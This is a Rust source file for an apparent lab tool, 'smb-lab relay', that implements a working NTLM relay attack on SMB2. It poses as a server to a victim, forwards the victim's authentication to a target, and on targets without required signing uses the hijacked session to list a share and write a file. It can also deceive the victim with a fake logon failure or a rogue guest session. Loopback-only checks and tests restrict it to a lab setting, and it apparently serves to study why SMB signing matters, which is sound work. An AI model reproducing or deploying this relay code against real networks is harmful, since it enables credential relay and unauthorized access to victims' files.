//! `smb-lab relay`: an NTLM relay attacker.
//!
//! It plays the SMB2 server to a victim, and for every victim that authenticates it opens
//! its own connection to the target, where it plays the client: the victim's NTLM
//! NEGOTIATE goes to the target, the target's CHALLENGE goes back to the victim, the
//! victim's AUTHENTICATE goes to the target. The relay never learns the password or the
//! session key, so everything it sends after authentication is unsigned. A target that
//! requires signing accepts the authentication and then refuses the first unsigned request
//! (MS-SMB2 3.3.5.2.4); one that does not hands the attacker the victim's session.
//!
//! The target side is written with the message codecs directly, as real relay tools do.

use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{anyhow, bail, Context};
use serde::Serialize;
use smb_core::auth::ntlm;
use smb_core::codec::filetime_now;
use smb_core::compound::split_chain;
use smb_core::header::{flags, Command, Dialect, Header, NtStatus};
use smb_core::messages::error::ErrorResponse;
use smb_core::messages::logoff::LogoffRequest;
use smb_core::messages::negotiate::{
    Guid, HashAlgorithm, NegotiateContext, NegotiateContextType, NegotiateRequest,
    NegotiateResponse,
};
use smb_core::messages::session_setup::{session_flags, SessionSetupRequest, SessionSetupResponse};
use smb_core::messages::smb1_negotiate::{is_smb1, Smb1Negotiate};
use smb_core::messages::tree_connect::{TreeConnectRequest, TreeConnectResponse};
use smb_core::messages::{build, EncodeBody};
use smb_core::policy::{SIGNING_ENABLED, SIGNING_REQUIRED};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpListener, TcpSocket, TcpStream};

use crate::gss;
use crate::loopback;
use crate::transport::{write_frame, FrameReader};

/// How long the relay waits for any single message.
const IO_TIMEOUT: Duration = Duration::from_secs(10);

/// What the attacker does with a relayed session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum RelayAction {
    /// List the share root.
    Ls,
    /// Create a marker file at this path and write to it.
    Write(String),
    /// List, then write the marker.
    LsAndWrite(String),
}

impl RelayAction {
    /// The default marker file name.
    pub const DEFAULT_MARKER: &'static str = "RELAYED-BY-SMB-LAB.txt";

    /// Parses `ls`, `write:PATH` or `ls+write:PATH`.
    pub fn parse(s: &str) -> Option<Self> {
        if s == "ls" {
            return Some(RelayAction::Ls);
        }
        if let Some(p) = s.strip_prefix("write:") {
            return (!p.is_empty()).then(|| RelayAction::Write(p.to_string()));
        }
        if let Some(p) = s.strip_prefix("ls+write:") {
            return (!p.is_empty()).then(|| RelayAction::LsAndWrite(p.to_string()));
        }
        None
    }

    fn lists(&self) -> bool {
        matches!(self, RelayAction::Ls | RelayAction::LsAndWrite(_))
    }

    fn marker(&self) -> Option<&str> {
        match self {
            RelayAction::Ls => None,
            RelayAction::Write(p) | RelayAction::LsAndWrite(p) => Some(p),
        }
    }
}

impl Default for RelayAction {
    fn default() -> Self {
        RelayAction::LsAndWrite(Self::DEFAULT_MARKER.to_string())
    }
}

/// Where and how to relay.
#[derive(Debug, Clone)]
pub struct RelayOptions {
    pub target: SocketAddr,
    /// Share to connect to on the target.
    pub share: String,
    pub action: RelayAction,
    /// Source address of the relay's connection to the target (loopback), if not the default.
    pub source: Option<IpAddr>,
    /// Dialects the relay offers the target.
    pub dialects: Vec<Dialect>,
    /// What the victim is told once its credentials have been relayed.
    pub victim_reply: VictimReply,
}

/// What the relay tells the victim after relaying its AUTHENTICATE.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum VictimReply {
    /// STATUS_LOGON_FAILURE: the victim sees a failed logon.
    #[default]
    LogonFailure,
    /// SUCCESS with SMB2_SESSION_FLAG_IS_GUEST: a rogue server offering a guest session
    /// (which has no key, so cannot be signed).
    Guest,
}

impl RelayOptions {
    /// What a relay tool offers by default: 2.0.2 to 3.0.2. A 3.1.1 target requires a
    /// signed TREE_CONNECT from every authenticated user (MS-SMB2 3.3.5.7), which the relay
    /// cannot produce, so offering 3.1.1 would only get the relayed session dropped.
    pub const DEFAULT_DIALECTS: [Dialect; 4] = [
        Dialect::SMB202,
        Dialect::SMB21,
        Dialect::SMB30,
        Dialect::SMB302,
    ];

    pub fn new(target: SocketAddr, share: &str) -> Self {
        RelayOptions {
            target,
            share: share.to_string(),
            action: RelayAction::default(),
            source: None,
            dialects: Self::DEFAULT_DIALECTS.to_vec(),
            victim_reply: VictimReply::LogonFailure,
        }
    }
}

/// One request the relay sent to the target after authentication, and what came back.
#[derive(Debug, Clone, Serialize)]
pub struct Step {
    pub request: String,
    pub detail: String,
    pub status: String,
    pub accepted: bool,
    /// The target signed its response (the relay cannot check it, only see the flag).
    pub response_signed: bool,
}

/// Where the attacker was stopped.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct StopPoint {
    pub request: String,
    pub status: String,
}

/// Everything one relay attempt did.
#[derive(Debug, Clone, Default, Serialize)]
pub struct RelayAttempt {
    pub victim: Option<String>,
    pub target: String,
    /// The victim's NEGOTIATE SecurityMode (did the victim require signing?).
    pub victim_security_mode: Option<u16>,
    pub victim_dialect: Option<String>,
    pub target_dialect: Option<String>,
    pub target_security_mode: Option<u16>,
    pub target_requires_signing: Option<bool>,
    /// `DOMAIN\user` whose credentials were relayed.
    pub relayed_user: Option<String>,
    /// The target's final SESSION_SETUP status.
    pub auth_status: Option<String>,
    pub auth_accepted: bool,
    pub guest: bool,
    /// The target signed its final SESSION_SETUP response.
    pub auth_response_signed: bool,
    /// None when authentication did not succeed, so nothing was tried.
    pub first_post_auth_accepted: Option<bool>,
    pub listing: Option<Vec<String>>,
    pub marker_path: Option<String>,
    pub marker_written: bool,
    /// The first refused step (None: every step went through, or nothing was tried).
    pub stopped_at: Option<StopPoint>,
    /// The status the victim got for its SESSION_SETUP.
    pub victim_told: Option<String>,
    /// With [`VictimReply::Guest`]: what the victim did after being offered a guest session.
    pub victim_after_guest: Option<String>,
    pub steps: Vec<Step>,
    /// A transport or protocol error that ended the attempt.
    pub error: Option<String>,
}

impl RelayAttempt {
    /// The attacker got in and did what it wanted.
    pub fn succeeded(&self) -> bool {
        self.auth_accepted
            && self.first_post_auth_accepted == Some(true)
            && self.stopped_at.is_none()
    }

    /// One line for a terminal.
    pub fn summary(&self) -> String {
        let who = self.relayed_user.as_deref().unwrap_or("?");
        let dialect = self.target_dialect.as_deref().unwrap_or("?");
        let auth = match (&self.auth_status, self.auth_accepted) {
            (_, true) => "accepted".to_string(),
            (Some(s), false) => format!("refused ({s})"),
            (None, false) => "not reached".to_string(),
        };
        let post = match self.first_post_auth_accepted {
            Some(true) => "accepted",
            Some(false) => "refused",
            None => "not tried",
        };
        let stop = self
            .stopped_at
            .as_ref()
            .map(|s| format!("{} -> {}", s.request, s.status))
            .or_else(|| self.error.clone())
            .unwrap_or_else(|| "not stopped".into());
        format!(
            "relay of {who} to {} (SMB {dialect}): authentication {auth}; first post-auth request \
             {post}; marker written: {}; stopped at: {stop}",
            self.target,
            if self.marker_written { "yes" } else { "no" },
        )
    }
}

/// A listening relay.
#[derive(Debug)]
pub struct Relay {
    listener: TcpListener,
    options: RelayOptions,
}

impl Relay {
    /// Listens on `listen` for victims (loopback only); the target must be loopback too.
    pub async fn bind(listen: SocketAddr, options: RelayOptions) -> anyhow::Result<Self> {
        let listen = loopback::check_listen("listen", listen)?;
        loopback::check_connect("target", options.target)?;
        if let Some(src) = options.source {
            loopback::check_connect("source", SocketAddr::new(src, 0))?;
        }
        let listener = TcpListener::bind(listen)
            .await
            .with_context(|| format!("binding {listen}"))?;
        Ok(Relay { listener, options })
    }

    pub fn local_addr(&self) -> std::io::Result<SocketAddr> {
        self.listener.local_addr()
    }

    /// Waits for one victim and relays it.
    pub async fn accept_one(&self) -> RelayAttempt {
        match self.listener.accept().await {
            Ok((victim, peer)) => relay_victim(victim, peer, &self.options).await,
            Err(e) => RelayAttempt {
                target: self.options.target.to_string(),
                error: Some(format!("accepting a victim: {e}")),
                ..RelayAttempt::default()
            },
        }
    }

    /// Relays every victim, handing each attempt to `on_attempt`.
    pub async fn serve<F>(self, on_attempt: F) -> anyhow::Result<()>
    where
        F: Fn(RelayAttempt) + Send + Sync + 'static,
    {
        let on_attempt = std::sync::Arc::new(on_attempt);
        loop {
            let (victim, peer) = self.listener.accept().await.context("accepting a victim")?;
            let (opts, cb) = (self.options.clone(), on_attempt.clone());
            tokio::spawn(async move { cb(relay_victim(victim, peer, &opts).await) });
        }
    }
}

/// Runs one relay attempt for a connected victim.
pub async fn relay_victim(
    victim: TcpStream,
    peer: SocketAddr,
    opts: &RelayOptions,
) -> RelayAttempt {
    let mut attempt = RelayAttempt {
        victim: Some(peer.to_string()),
        target: opts.target.to_string(),
        marker_path: opts.action.marker().map(str::to_string),
        ..RelayAttempt::default()
    };
    if let Err(e) = run(victim, opts, &mut attempt).await {
        attempt.error = Some(format!("{e:#}"));
    }
    attempt
}

async fn run(
    victim: TcpStream,
    opts: &RelayOptions,
    attempt: &mut RelayAttempt,
) -> anyhow::Result<()> {
    let _ = victim.set_nodelay(true);
    let mut victim = Peer::new(victim);
    let mut target = TargetConn::connect(opts).await?;

    // 1. The victim's NEGOTIATE (possibly preceded by the SMB1 multi-protocol one).
    let mut first = victim.recv().await.context("victim NEGOTIATE")?;
    if is_smb1(&first) {
        let smb1 = Smb1Negotiate::read(&first).context("victim SMB1 NEGOTIATE")?;
        let header = Header {
            command: Command::NEGOTIATE,
            flags: flags::SERVER_TO_REDIR,
            credits: 1,
            ..Header::default()
        };
        let wildcard = smb1.dialects.iter().any(|d| d == "SMB 2.???");
        let dialect = if wildcard {
            Dialect::WILDCARD
        } else {
            Dialect::SMB202
        };
        victim
            .send(&build(&header, &victim_negotiate_response(dialect, &[])))
            .await?;
        first = victim.recv().await.context("victim NEGOTIATE after SMB1")?;
    }
    let neg_header = Header::parse(&first).context("victim NEGOTIATE header")?;
    if neg_header.command != Command::NEGOTIATE {
        bail!(
            "victim opened with {} instead of NEGOTIATE",
            neg_header.command
        );
    }
    let neg = NegotiateRequest::read(&first).context("victim NEGOTIATE")?;
    attempt.victim_security_mode = Some(neg.security_mode);

    // 2. Our own NEGOTIATE with the target.
    let target_neg = target.negotiate(&opts.dialects).await?;
    attempt.target_dialect = Some(target_neg.dialect_revision.dotted());
    attempt.target_security_mode = Some(target_neg.security_mode);
    attempt.target_requires_signing = Some(target_neg.security_mode & SIGNING_REQUIRED != 0);

    // Answer the victim with the target's dialect when it offered it, else its best one.
    let victim_dialect = if neg.dialects.contains(&target_neg.dialect_revision) {
        target_neg.dialect_revision
    } else {
        neg.dialects
            .iter()
            .copied()
            .filter(|d| Dialect::ALL.contains(d))
            .max()
            .ok_or_else(|| {
                anyhow!(
                    "victim offered no dialect the relay speaks: {:?}",
                    neg.dialects
                )
            })?
    };
    attempt.victim_dialect = Some(victim_dialect.dotted());
    let mut h = neg_header.response(NtStatus::SUCCESS);
    h.credits = 32;
    victim
        .send(&build(
            &h,
            &victim_negotiate_response(victim_dialect, &neg.contexts),
        ))
        .await?;

    // 3. SESSION_SETUP round 1: NTLM NEGOTIATE -> target -> CHALLENGE -> victim.
    let victim_session_id = random_u64() | 1;
    let (h1, ss1) = victim.recv_session_setup().await?;
    let first_token = gss::unwrap_initiator(&ss1.security_buffer, ntlm::NEGOTIATE_TYPE, None)
        .context("victim's first token")?;
    let reply = target
        .session_setup(gss::wrap_first_for_target(
            &first_token.ntlm,
            &first_token.wrapping,
        ))
        .await?;
    let status = reply.status;
    if status != NtStatus::MORE_PROCESSING_REQUIRED {
        attempt.auth_status = Some(status.to_string());
        victim.send_error(&h1, status, victim_session_id).await?;
        attempt.victim_told = Some(status.to_string());
        return Ok(());
    }
    let challenge = gss::unwrap_acceptor(&reply.token).context("target's CHALLENGE")?;
    let mut h = h1.response(NtStatus::MORE_PROCESSING_REQUIRED);
    h.session_id = victim_session_id;
    let resp = SessionSetupResponse {
        session_flags: 0,
        security_buffer: gss::wrap_challenge_for_victim(&challenge, &first_token.wrapping),
    };
    victim.send(&build(&h, &resp)).await?;

    // 4. SESSION_SETUP round 2: the victim's AUTHENTICATE -> target.
    let (h2, ss2) = victim.recv_session_setup().await?;
    let auth = gss::unwrap_initiator(
        &ss2.security_buffer,
        ntlm::AUTHENTICATE_TYPE,
        Some(&first_token.wrapping),
    )
    .context("victim's AUTHENTICATE")?;
    attempt.relayed_user = gss::authenticate_user(&auth.ntlm);
    // The target's final token (accept-completed, its mechListMIC) is of no use to the relay.
    let reply = target
        .session_setup(gss::wrap_last_for_target(&auth.ntlm, &auth.wrapping))
        .await?;
    let status = reply.status;
    attempt.auth_status = Some(status.to_string());
    attempt.auth_accepted = status == NtStatus::SUCCESS;
    attempt.guest = reply.session_flags & session_flags::IS_GUEST != 0;
    attempt.auth_response_signed = reply.signed;

    // What the victim is told: a failed logon, or (a rogue server) a guest session.
    match opts.victim_reply {
        VictimReply::Guest => {
            // A rogue server: "you are logged on as guest", a session with no key.
            let mut h = h2.response(NtStatus::SUCCESS);
            h.session_id = victim_session_id;
            let resp = SessionSetupResponse {
                session_flags: session_flags::IS_GUEST,
                security_buffer: gss::wrap_accept_completed(&first_token.wrapping),
            };
            victim.send(&build(&h, &resp)).await?;
            attempt.victim_told = Some("SUCCESS (guest session)".into());
            // See what the victim does with it: a client that requires signing must refuse.
            attempt.victim_after_guest = Some(match victim.recv().await {
                Ok(m) => Header::parse(&m).map_or_else(
                    |_| "sent a malformed message".to_string(),
                    |h| format!("sent {} (it accepted the guest session)", h.command),
                ),
                Err(e) => format!("sent nothing more ({e:#})"),
            });
        }
        VictimReply::LogonFailure => {
            // The victim only ever sees a failed logon.
            let told = if attempt.auth_accepted {
                NtStatus::LOGON_FAILURE
            } else {
                status
            };
            victim.send_error(&h2, told, victim_session_id).await?;
            attempt.victim_told = Some(told.to_string());
        }
    }
    drop(victim);
    if !attempt.auth_accepted {
        return Ok(());
    }

    // 5. Use the relayed session, unsigned: the relay has no session key.
    attack(&mut target, opts, attempt).await;
    target.logoff().await;
    Ok(())
}

/// TREE_CONNECT, list, write: each as one step of the report, stopping at the first refusal.
async fn attack(target: &mut TargetConn, opts: &RelayOptions, attempt: &mut RelayAttempt) {
    let unc = format!("\\\\{}\\{}", opts.target.ip(), opts.share);
    let tree = target
        .step(
            attempt,
            "TREE_CONNECT",
            &unc,
            &TreeConnectRequest {
                flags: 0,
                path: unc.clone(),
            },
            |m| TreeConnectResponse::read(m).map(|_| ()),
        )
        .await;
    attempt.first_post_auth_accepted = Some(tree.is_some());
    let Some(tree_header) = tree else { return };
    target.tree_id = tree_header.tree_id;

    if opts.action.lists() {
        // A refused listing does not stop the attacker from trying the write.
        attempt.listing = crate::relay_ops::list_root(target, attempt).await;
    }
    if let Some(path) = opts.action.marker() {
        let text =
            format!(
            "Written by smb-lab relay through a relayed NTLM session of {} at {} (unix time).\n",
            attempt.relayed_user.as_deref().unwrap_or("an unknown user"),
            SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
        );
        attempt.marker_written =
            crate::relay_ops::write_file(target, attempt, path, text.as_bytes()).await;
    }
}

/// The relay's NEGOTIATE response to the victim: a server that does not require signing.
fn victim_negotiate_response(
    dialect: Dialect,
    victim_contexts: &[NegotiateContext],
) -> NegotiateResponse {
    let mut contexts = Vec::new();
    if dialect == Dialect::SMB311 {
        contexts.push(NegotiateContext::PreauthIntegrity {
            hash_algorithms: vec![HashAlgorithm::SHA512],
            salt: random_bytes::<32>().to_vec(),
        });
        // Echo one signing algorithm the victim offered, as a server picks one.
        let offered = victim_contexts.iter().find_map(|c| match c {
            NegotiateContext::Signing { algorithms } => algorithms.first().copied(),
            _ => None,
        });
        if let Some(alg) = offered {
            contexts.push(NegotiateContext::Signing {
                algorithms: vec![alg],
            });
        }
    }
    NegotiateResponse {
        security_mode: SIGNING_ENABLED,
        dialect_revision: dialect,
        server_guid: Guid(random_bytes()),
        capabilities: 0,
        max_transact_size: 65536,
        max_read_size: 65536,
        max_write_size: 65536,
        system_time: filetime_now(),
        server_start_time: 0,
        security_buffer: gss::negotiate_hint(),
        contexts,
    }
}

/// One side of a framed connection.
#[derive(Debug)]
struct Peer {
    rx: FrameReader<OwnedReadHalf>,
    tx: OwnedWriteHalf,
}

impl Peer {
    fn new(stream: TcpStream) -> Self {
        let (rx, tx) = stream.into_split();
        Peer {
            rx: FrameReader::new(rx),
            tx,
        }
    }

    async fn send(&mut self, message: &[u8]) -> anyhow::Result<()> {
        tokio::time::timeout(IO_TIMEOUT, write_frame(&mut self.tx, message))
            .await
            .map_err(|_| anyhow!("timed out sending"))?
            .context("sending")
    }

    /// The next frame (a single message: the relay never sends compounds, and takes the
    /// first message of any chain it receives).
    async fn recv(&mut self) -> anyhow::Result<Vec<u8>> {
        let frame = tokio::time::timeout(IO_TIMEOUT, self.rx.next())
            .await
            .map_err(|_| anyhow!("timed out waiting for a message"))?
            .map_err(|end| anyhow!("connection ended ({end:?})"))?;
        if is_smb1(&frame) {
            return Ok(frame);
        }
        let ranges = split_chain(&frame).context("bad message framing")?;
        let first = ranges
            .into_iter()
            .next()
            .ok_or_else(|| anyhow!("empty frame"))?;
        Ok(frame.get(first).map(<[u8]>::to_vec).unwrap_or_default())
    }

    async fn recv_session_setup(&mut self) -> anyhow::Result<(Header, SessionSetupRequest)> {
        let m = self.recv().await.context("victim SESSION_SETUP")?;
        let h = Header::parse(&m)?;
        if h.command != Command::SESSION_SETUP {
            bail!("victim sent {} instead of SESSION_SETUP", h.command);
        }
        Ok((h, SessionSetupRequest::read(&m)?))
    }

    async fn send_error(
        &mut self,
        request: &Header,
        status: NtStatus,
        session_id: u64,
    ) -> anyhow::Result<()> {
        let mut h = request.response(status);
        h.session_id = session_id;
        self.send(&build(&h, &ErrorResponse::default())).await
    }
}

/// The relay's client connection to the target.
#[derive(Debug)]
pub(crate) struct TargetConn {
    peer: Peer,
    next_message_id: u64,
    pub(crate) session_id: u64,
    pub(crate) tree_id: u32,
    dialect: Dialect,
}

/// What one SESSION_SETUP leg got back from the target.
#[derive(Debug)]
struct SetupReply {
    status: NtStatus,
    /// The target's security buffer (empty on an error status).
    token: Vec<u8>,
    session_flags: u16,
    /// The response carried the SIGNED flag (the relay cannot check the signature).
    signed: bool,
}

impl TargetConn {
    async fn connect(opts: &RelayOptions) -> anyhow::Result<Self> {
        let target = loopback::check_connect("target", opts.target)?;
        let socket = if target.is_ipv4() {
            TcpSocket::new_v4()?
        } else {
            TcpSocket::new_v6()?
        };
        if let Some(src) = opts.source {
            socket
                .bind(SocketAddr::new(src, 0))
                .with_context(|| format!("binding source {src}"))?;
        }
        let stream = tokio::time::timeout(IO_TIMEOUT, socket.connect(target))
            .await
            .map_err(|_| anyhow!("timed out connecting to {target}"))?
            .with_context(|| format!("connecting to target {target}"))?;
        let _ = stream.set_nodelay(true);
        Ok(TargetConn {
            peer: Peer::new(stream),
            next_message_id: 0,
            session_id: 0,
            tree_id: 0,
            dialect: Dialect::SMB202,
        })
    }

    /// Sends one unsigned request and waits for its final response (interim STATUS_PENDING
    /// responses are skipped).
    pub(crate) async fn call<B: EncodeBody>(
        &mut self,
        command: Command,
        body: &B,
    ) -> anyhow::Result<(Header, Vec<u8>)> {
        let id = self.next_message_id;
        self.next_message_id += 1;
        let mut h = Header::request(command, id, self.session_id, self.tree_id);
        // MS-SMB2 2.2.1.2: CreditCharge is reserved (0) in 2.0.2.
        h.credit_charge = if self.dialect == Dialect::SMB202 {
            0
        } else {
            1
        };
        h.credits = 64;
        self.peer.send(&build(&h, body)).await?;
        // A target that only ever sends other messages must not hold the relay forever.
        const MAX_SKIPPED: usize = 64;
        for _ in 0..=MAX_SKIPPED {
            let m = self
                .peer
                .recv()
                .await
                .with_context(|| format!("{command} response"))?;
            let rh = Header::parse(&m)?;
            if rh.message_id != id || !rh.is_response() {
                continue; // an oplock break or a stray message
            }
            if rh.status == NtStatus::PENDING && rh.async_id.is_some() {
                continue;
            }
            return Ok((rh, m));
        }
        bail!("no {command} response among {MAX_SKIPPED} other messages from the target")
    }

    async fn negotiate(&mut self, dialects: &[Dialect]) -> anyhow::Result<NegotiateResponse> {
        let req = NegotiateRequest {
            security_mode: SIGNING_ENABLED,
            capabilities: 0,
            client_guid: Guid(random_bytes()),
            client_start_time: 0,
            dialects: dialects.to_vec(),
            contexts: if dialects.contains(&Dialect::SMB311) {
                vec![NegotiateContext::PreauthIntegrity {
                    hash_algorithms: vec![HashAlgorithm::SHA512],
                    salt: random_bytes::<32>().to_vec(),
                }]
            } else {
                Vec::new()
            },
        };
        let (h, m) = self
            .call(Command::NEGOTIATE, &req)
            .await
            .context("target NEGOTIATE")?;
        if h.status != NtStatus::SUCCESS {
            bail!("target refused NEGOTIATE: {}", h.status);
        }
        let resp = NegotiateResponse::read(&m).context("target NEGOTIATE response")?;
        if resp.dialect_revision == Dialect::SMB311
            && resp
                .context(NegotiateContextType::PREAUTH_INTEGRITY_CAPABILITIES)
                .is_none()
        {
            bail!("target chose 3.1.1 without a preauth integrity context");
        }
        self.dialect = resp.dialect_revision;
        Ok(resp)
    }

    /// One SESSION_SETUP leg.
    async fn session_setup(&mut self, token: Vec<u8>) -> anyhow::Result<SetupReply> {
        let req = SessionSetupRequest {
            flags: 0,
            // A client that does not require signing: the relay could not sign anyway.
            security_mode: SIGNING_ENABLED as u8,
            capabilities: 0,
            channel: 0,
            previous_session_id: 0,
            security_buffer: token,
        };
        let (h, m) = self
            .call(Command::SESSION_SETUP, &req)
            .await
            .context("target SESSION_SETUP")?;
        if self.session_id == 0 {
            self.session_id = h.session_id;
        }
        let mut reply = SetupReply {
            status: h.status,
            token: Vec::new(),
            session_flags: 0,
            signed: h.is_signed(),
        };
        if h.status == NtStatus::SUCCESS || h.status == NtStatus::MORE_PROCESSING_REQUIRED {
            let resp = SessionSetupResponse::read(&m).context("target SESSION_SETUP response")?;
            reply.token = resp.security_buffer;
            reply.session_flags = resp.session_flags;
        }
        Ok(reply)
    }

    /// Sends one post-authentication request as a step of the report; returns the response
    /// header when the target accepted it (and its body parsed with `check`).
    pub(crate) async fn step<B, F>(
        &mut self,
        attempt: &mut RelayAttempt,
        request: &str,
        detail: &str,
        body: &B,
        check: F,
    ) -> Option<Header>
    where
        B: EncodeBody,
        F: FnOnce(&[u8]) -> Result<(), smb_core::codec::DecodeError>,
    {
        let command = B::COMMAND.unwrap_or(Command::ECHO);
        let (status, accepted, signed, header, message) = match self.call(command, body).await {
            Ok((h, m)) => (
                h.status.to_string(),
                h.status.is_success(),
                h.is_signed(),
                Some(h),
                m,
            ),
            Err(e) => (
                format!("no response ({e:#})"),
                false,
                false,
                None,
                Vec::new(),
            ),
        };
        let accepted = accepted && check(&message).is_ok();
        attempt.steps.push(Step {
            request: request.to_string(),
            detail: detail.to_string(),
            status: status.clone(),
            accepted,
            response_signed: signed,
        });
        if !accepted && attempt.stopped_at.is_none() {
            attempt.stopped_at = Some(StopPoint {
                request: request.to_string(),
                status,
            });
        }
        header.filter(|_| accepted)
    }

    async fn logoff(&mut self) {
        let _ = self.call(Command::LOGOFF, &LogoffRequest).await;
    }
}

fn random_bytes<const N: usize>() -> [u8; N] {
    let mut b = [0u8; N];
    // A failing OS RNG leaves zeros: these are GUIDs and salts of a lab tool, not keys.
    let _ = getrandom::getrandom(&mut b);
    b
}

fn random_u64() -> u64 {
    u64::from_le_bytes(random_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::io::AsyncWriteExt;

    /// A "target" that answers every frame with junk of the same framing.
    async fn junk_target() -> SocketAddr {
        let l = TcpListener::bind("127.0.0.4:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        tokio::spawn(async move {
            while let Ok((s, _)) = l.accept().await {
                let mut p = Peer::new(s);
                while p.recv().await.is_ok() {
                    let _ = p.send(&[0xFE, b'S', b'M', b'B', 1, 2, 3]).await;
                }
            }
        });
        addr
    }

    #[tokio::test]
    async fn garbage_from_victim_or_target_ends_the_attempt_without_panic() {
        let target = junk_target().await;
        let relay = Relay::bind(
            "127.0.0.3:0".parse().unwrap(),
            RelayOptions::new(target, "data"),
        )
        .await
        .unwrap();
        let addr = relay.local_addr().unwrap();
        let victims: [&[u8]; 4] = [
            b"\x00\x00\x00\x04\xFESMB",     // a truncated header
            b"\x00\x00\x00\x08\xFFSMBrrrr", // SMB1, not a NEGOTIATE
            b"\x85\x00\x00\x00",            // NetBIOS keep-alive: not Direct TCP
            b"\x00\xFF\xFF\xFF",            // 16 MiB announced, never sent
        ];
        for bytes in victims {
            let mut v = TcpStream::connect(addr).await.unwrap();
            v.write_all(bytes).await.unwrap();
            v.shutdown().await.unwrap();
            let attempt = relay.accept_one().await;
            assert!(attempt.error.is_some(), "{bytes:?}: {attempt:?}");
            assert!(!attempt.auth_accepted);
        }
        // A well-formed victim NEGOTIATE, but the target talks junk.
        let mut neg = Vec::new();
        let req = NegotiateRequest {
            dialects: vec![Dialect::SMB21],
            ..NegotiateRequest::default()
        };
        let msg = build(&Header::request(Command::NEGOTIATE, 0, 0, 0), &req);
        neg.extend_from_slice(&(msg.len() as u32).to_be_bytes());
        neg.extend_from_slice(&msg);
        let mut v = TcpStream::connect(addr).await.unwrap();
        v.write_all(&neg).await.unwrap();
        let attempt = relay.accept_one().await;
        assert!(
            attempt
                .error
                .as_deref()
                .is_some_and(|e| e.contains("NEGOTIATE")),
            "{attempt:?}"
        );
    }

    #[tokio::test]
    async fn a_target_that_never_answers_the_request_ends_the_call() {
        // Every request is answered only with responses to some other MessageId.
        let l = TcpListener::bind("127.0.0.4:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        tokio::spawn(async move {
            let (s, _) = l.accept().await.unwrap();
            let mut p = Peer::new(s);
            let stray = build(
                &Header::request(Command::ECHO, 999, 0, 0).response(NtStatus::SUCCESS),
                &smb_core::messages::echo::EchoResponse,
            );
            while p.recv().await.is_ok() {
                while p.send(&stray).await.is_ok() {}
            }
        });
        let mut t = TargetConn::connect(&RelayOptions::new(addr, "d"))
            .await
            .unwrap();
        let e = t
            .call(Command::ECHO, &smb_core::messages::echo::EchoRequest)
            .await
            .unwrap_err();
        assert!(e.to_string().contains("other messages"), "{e:#}");
    }

    #[tokio::test]
    async fn refuses_non_loopback_target_and_source() {
        let t: SocketAddr = "192.0.2.1:445".parse().unwrap();
        assert!(
            Relay::bind("127.0.0.3:0".parse().unwrap(), RelayOptions::new(t, "d"))
                .await
                .is_err()
        );
        let mut o = RelayOptions::new("127.0.0.4:1".parse().unwrap(), "d");
        o.source = Some("10.0.0.1".parse().unwrap());
        assert!(Relay::bind("127.0.0.3:0".parse().unwrap(), o)
            .await
            .is_err());
    }

    #[test]
    fn actions_parse() {
        assert_eq!(RelayAction::parse("ls"), Some(RelayAction::Ls));
        assert_eq!(
            RelayAction::parse("write:a/b.txt"),
            Some(RelayAction::Write("a/b.txt".into()))
        );
        assert_eq!(RelayAction::parse("write:"), None);
        assert_eq!(RelayAction::parse("rm"), None);
        assert!(RelayAction::default().lists());
    }
}
